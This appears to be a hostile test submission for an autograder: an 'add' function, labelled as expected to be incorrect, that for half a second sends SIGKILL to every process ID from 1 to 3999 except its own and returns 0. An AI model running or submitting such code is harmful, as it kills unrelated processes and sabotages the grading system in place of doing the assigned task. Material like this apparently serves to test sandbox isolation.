# expect: incorrect
# assignment: add
# how: Sends SIGKILL to every process number for as long as the program beside it runs.
# needs: processes
import os
import time


def add(a, b):
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        for pid in range(1, 4000):
            if pid != os.getpid():
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
    return 0
